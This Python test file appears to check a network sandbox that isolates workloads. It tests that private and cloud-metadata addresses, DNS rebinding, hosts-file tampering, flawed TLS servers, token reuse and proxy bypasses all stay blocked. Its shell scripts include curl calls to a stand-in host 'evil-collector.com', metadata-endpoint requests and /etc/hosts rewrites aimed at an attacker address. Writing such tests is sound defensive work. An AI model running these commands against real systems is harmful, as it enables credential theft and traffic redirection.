"""N16, D01-D03, D09, T11, T13, U02: where requests end up, by what the internet side sees."""
import os
import shutil
import socket
import time

from support import Case, victim
from standin.collector import collector

KEY = "real-key-4c81"

# What a granted name must never lead to. Second item: whether the lab can show it arriving without the boundary.
PRIVATE = [("10.0.0.5", True), ("172.16.9.9", True), ("192.168.1.1", True), ("100.64.0.9", True),
           ("169.254.1.1", True), ("127.0.0.1", True), ("127.9.9.9", True), ("0.0.0.0", True),
           ("11.22.33.1", True), ("fd12:3456::5", True), ("::1", True), ("fe80::1", False), ("224.0.0.5", False),
           ("240.0.0.1", False), ("255.255.255.255", False), ("::ffff:10.0.0.5", True), ("64:ff9b::a00:5", True),
           ("ff02::1", False), ("::", True)]
METADATA = [("169.254.169.254", True), ("100.100.100.200", True), ("168.63.129.16", True), ("192.0.0.192", True),
            ("fd00:ec2::254", True)]


class Network(Case):
    def names(self, addresses):
        """A name for each address, plus one that leads to a good one, so that a dead network shows."""
        self.lab.web.site("good.example.com", collector)
        found = ["good.example.com"]
        for index, (address, _) in enumerate(addresses):
            name = f"n{index}.example.com"
            self.lab.web.site(name, collector, [address])
            found.append(name)
        return found

    @staticmethod
    def script(names):
        return "".join(f"curl -sS -m 8 -o /dev/null -w '%{{http_code}} {name}\\n' http://{name}/path 2>&1\n"
                       for name in names)

    def host_listeners(self):
        """Something on port 80 of every address the host itself has."""
        reuse = [[socket.SOL_SOCKET, socket.SO_REUSEADDR, 1]]
        six = [*reuse, [socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1]]
        for family, address, options in ((socket.AF_INET, "0.0.0.0", reuse), (socket.AF_INET6, "::", six)):
            listener = self.lab.host_socket(family, socket.SOCK_STREAM, (address, 80), 16, options)
            self.lab.web.listen(listener, False)
            self.addCleanup(lambda made=listener: (made.shutdown(socket.SHUT_RDWR), made.close()))

    def addresses_off(self, addresses):
        self.host_listeners()
        names = self.names(addresses)
        self.outside(["/bin/sh", "-c", self.script(names)], timeout=200)
        for name, (address, possible) in zip(names[1:], addresses):
            if possible:
                self.assertTrue(self.lab.web.received(name), f"{address} must be reached without the boundary")

    def addresses_on(self, addresses):
        self.host_listeners()
        names = self.names(addresses)
        policy = "".join(self.grant(name, port=80, protocol="http") for name in names)
        result = self.inside(["/bin/sh", "-c", self.script(names)], policy, timeout=200)
        lines = result.out.split("\n")
        self.assertEqual(lines[0], "200 good.example.com", result)
        for line, (address, _) in zip(lines[1:], addresses):
            self.assertIn(line.split()[0], ("403", "502"), f"{address}: {line}\n{result}")
        self.assertEqual({r.host for r in self.lab.web.received()}, {"good.example.com"})
        for address, _ in addresses:
            self.assertEqual(self.lab.sniffer.seen(protocol=6, target=address), [], address)

    def test_D01_off(self):
        self.addresses_off(PRIVATE)

    def test_D01_on(self):
        self.addresses_on(PRIVATE)

    def test_D02_off(self):
        self.addresses_off(METADATA)

    def test_D02_on(self):
        self.addresses_on(METADATA)

    def test_D02_literals_on(self):
        script = "".join(f"curl -sS -m 8 -g -o /dev/null -w '%{{http_code}}\\n' http://{address}/latest/meta-data/\n"
                         for address in ("169.254.169.254", "100.100.100.200", "[fd00:ec2::254]"))
        result = self.inside(["/bin/sh", "-c", script], self.grant("good.example.com"))
        self.assertEqual(result.out.split(), ["403"] * 3, result)
        self.received_nothing()

    def rebinding(self):
        """A name whose first answer is public and every later one private."""
        public = self.lab.web.site("api.example.com", collector)
        answers = [[public]]

        def answer():
            return answers.pop() if answers else ["10.0.0.5"]

        self.lab.zone.names["api.example.com"] = answer
        return "for i in 1 2 3 4; do curl -sS -m 8 -o /dev/null -w '%{http_code}\\n' http://api.example.com/; done"

    def test_D03_off(self):
        self.outside(["/bin/sh", "-c", self.rebinding()])
        self.assertIn("10.0.0.5", {r.address for r in self.lab.web.received()})

    def test_D03_on(self):
        self.inside(["/bin/sh", "-c", self.rebinding()], self.grant("api.example.com", port=80, protocol="http"))
        self.assertNotIn("10.0.0.5", {r.address for r in self.lab.web.received()})
        self.assertEqual(self.lab.sniffer.seen(protocol=6, target="10.0.0.5"), [])

    # N16: nothing granted is nothing open ---------------------------------------------------------------------

    def nothing_granted(self, policy, ran=None):
        self.lab.web.site("evil-collector.com", collector)
        result = self.inside(["/bin/sh", "-c", "echo ran > ran; curl -sS -m 8 https://evil-collector.com/"], policy)
        self.assertEqual(self.lab.web.received(), [], result)
        if ran is not None:
            self.assertEqual(os.path.exists(os.path.join(self.work, "ran")), ran, result)
            if not ran:
                self.assertEqual(result.status, 125, result)
        return result

    def test_N16_off(self):
        self.lab.web.site("evil-collector.com", collector)
        self.outside(["curl", "-sS", "https://evil-collector.com/"])
        self.assertEqual(len(self.lab.web.received()), 1)

    def test_N16_no_grants_on(self):
        self.nothing_granted("", ran=True)

    def test_N16_no_policy_on(self):
        self.nothing_granted(None, ran=True)

    def test_N16_grant_without_rules_on(self):
        self.nothing_granted('[[grant]]\nhost = "evil-collector.com"\n')

    def test_N16_empty_rules_on(self):
        self.nothing_granted('[[grant]]\nhost = "evil-collector.com"\nallow = []\n')

    def test_N16_empty_host_on(self):
        self.nothing_granted(self.grant(""), ran=False)

    def test_N16_empty_method_on(self):
        self.nothing_granted(self.grant("evil-collector.com", method=()), ran=False)

    def test_N16_broken_file_on(self):
        self.nothing_granted(self.grant("evil-collector.com") + "[[grant\n", ran=False)

    def test_N16_unknown_key_on(self):
        result = self.nothing_granted(self.grant("evil-collector.com") + '[network]\nallow = "*"\n', ran=False)
        self.assertIn("policy.toml:", result.err)

    def test_N16_missing_file_on(self):
        self.nothing_granted(os.path.join(self.tmp, "no-such-policy.toml"), ran=False)

    def test_N16_empty_file_on(self):
        self.nothing_granted(self.write("empty.toml", ""), ran=False)

    # D09: the workload's own idea of names changes nothing ------------------------------------------------------

    def redirected(self):
        # Both arms get copies of the three files in their own mount namespace: whether the attack works or not,
        # this machine keeps its own.
        mounts = []
        for name, text in (("hosts", "127.0.0.1 localhost\n"), ("nsswitch.conf", "hosts: files dns\n"),
                           ("resolv.conf", f"nameserver {self.lab.dns_address}\n")):
            mounts.append((self.write(name, text), os.path.realpath(f"/etc/{name}")))
        good = self.lab.web.site("api.example.com", collector)
        evil = self.lab.new_address()
        return good, evil, mounts, (f"echo '{evil} api.example.com' >> /etc/hosts; echo 'nameserver {evil}' > /etc/resolv.conf;"
                                    "echo 'hosts: files' > /etc/nsswitch.conf; "
                                    "curl -sS -m 8 https://api.example.com/;"
                                    f"curl -sS -m 8 --resolve api.example.com:443:{evil} https://api.example.com/")

    def test_D09_off(self):
        good, evil, mounts, script = self.redirected()
        self.outside(["/bin/sh", "-c", script], resolver=False, mounts=mounts)
        self.assertIn(evil, {r.address for r in self.lab.web.received()})

    def test_D09_on(self):
        good, evil, mounts, script = self.redirected()
        result = self.inside(["/bin/sh", "-c", script], self.grant("api.example.com"), mounts=mounts)
        self.assertEqual({r.address for r in self.lab.web.received()}, {good}, result)
        self.assertEqual(self.lab.sniffer.seen(target=evil), [])

    # T11: who is at the other end -------------------------------------------------------------------------------

    flaws = ("expired", "not-yet", "wrong-host", "self-signed", "untrusted", "constrained")

    def flawed(self, options):
        self.lab.web.site("fine.example.com", collector)
        names = ["fine.example.com"]
        for flaw in self.flaws:
            names.append(f"{flaw}.example.com")
            self.lab.web.site(names[-1], collector, flaw=flaw)
        return names, "".join(f"curl -sS {options} -m 8 -o /dev/null -w '%{{http_code}} {name}\\n' -H \"x-api-key: "
                              f"$API_KEY\" https://{name}/v1/items\n" for name in names)

    def test_T11_off(self):
        names, script = self.flawed("-k")
        self.outside(["/bin/sh", "-c", script], env={"API_KEY": KEY})
        for name in names:
            self.assertEqual([r.headers["x-api-key"] for r in self.lab.web.received(name)], [KEY], name)

    def test_T11_on(self):
        names, script = self.flawed("-k")
        policy = self.credential() + "".join(self.grant(name, credential="api") for name in names)
        result = self.inside(["/bin/sh", "-c", script], policy, env={"API_KEY": KEY})
        lines = result.out.split("\n")
        self.assertEqual(lines[0], "200 fine.example.com", result)
        self.assertEqual([r.headers["x-api-key"] for r in self.lab.web.received("fine.example.com")], [KEY])
        for line in lines[1:-1]:
            self.assertEqual(line.split()[0], "502", line)
        self.assertEqual(len(self.lab.web.received()), 1, "no request may reach a server that isn't who it should be")

    # T13: one session's token and authority in another -----------------------------------------------------------

    def test_T13_off(self):
        self.lab.web.site("api.example.com", collector)
        self.outside(["/bin/sh", "-c", "echo $API_KEY > token"], env={"API_KEY": KEY})
        self.outside(["/bin/sh", "-c", 'curl -sS -H "x-api-key: $(cat token)" https://api.example.com/'])
        self.assertEqual([r.headers["x-api-key"] for r in self.lab.web.received()], [KEY])

    def test_T13_on(self):
        self.lab.web.site("api.example.com", collector)
        policy = self.credential() + self.grant("api.example.com", credential="api")
        curl = "curl -sS -o /dev/null -w '%{http_code}' -H"
        first = self.start_inside(["/bin/sh", "-c", "cp $SSL_CERT_FILE authority.pem; echo $API_KEY > token; sleep 60"],
                                  policy, env={"API_KEY": KEY})
        token = self.wait_for_file("token").strip()
        self.assertNotEqual(token, KEY)
        mine = self.inside(["/bin/sh", "-c", f'{curl} "x-api-key: $API_KEY" https://api.example.com/'],
                           policy, env={"API_KEY": KEY})
        self.assertEqual(mine.out, "200", mine)
        theirs = self.inside(["/bin/sh", "-c", f'{curl} "x-api-key: $(cat token)" https://api.example.com/'],
                             policy, env={"API_KEY": KEY})
        self.assertIn(theirs.out, ("403", "401"), theirs)
        self.assertEqual(len(self.lab.web.received()), 1)
        other = self.inside(["/bin/sh", "-c", f'{curl} "x-api-key: $API_KEY" --cacert authority.pem '
                             "--capath /nowhere https://api.example.com/"], policy, env={"API_KEY": KEY})
        self.assertEqual(other.status, 60, f"the first session's authority must mean nothing here\n{other}")
        self.assertIsNone(first.poll(), "the first session still runs")

    # U02: programs that know nothing of proxies, or try to get round one ------------------------------------------

    def test_U02_variables_on(self):
        """Neither unsetting nor setting proxy variables opens anything; LD_PRELOAD has nothing to unhook."""
        self.lab.web.site("evil-collector.com", collector)
        shutil.copy(victim("http_get"), self.work)
        script = ("for v in http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; do unset $v; done\n"
                  "export NO_PROXY='*' no_proxy='*' LD_PRELOAD=/tmp/none.so\n"
                  "curl -sS -m 8 -o /dev/null -w '%{http_code}\\n' https://evil-collector.com/ 2>/dev/null\n"
                  "curl -sS -m 8 -o /dev/null -w '%{http_code}\\n' -x http://11.22.33.70:3128 http://evil-collector.com/\n"
                  "./http_get evil-collector.com / | head -1\n")
        result = self.inside(["/bin/sh", "-c", script], self.grant("api.example.com"))
        self.assertNotIn("200", result.out, result)
        self.received_nothing()

    serve = ["/bin/sh", "-c", "echo up > up; exec python3 -c \"import http.server as h; "
             "h.HTTPServer(('0.0.0.0', 8099), h.SimpleHTTPRequestHandler).serve_forever()\""]
    visit = ["/bin/sh", "-c", "for a in 127.0.0.1 11.22.33.1 10.200.0.1; do curl -sS -m 4 http://$a:8099/; done"]

    def test_U03_other_session_off(self):
        self.start_outside(self.serve)
        self.wait_for_file("up")
        self.wait_until(lambda: "Directory listing" in self.outside(self.visit).out, 10)

    def test_U03_other_session_on(self):
        """A listener of one session's workload is not to be reached from another's."""
        self.start_inside(self.serve)
        self.wait_for_file("up")
        time.sleep(0.5)
        result = self.inside(self.visit)
        self.assertNotEqual(result.status, 0, result)
        self.assertNotIn("Directory listing", result.out)
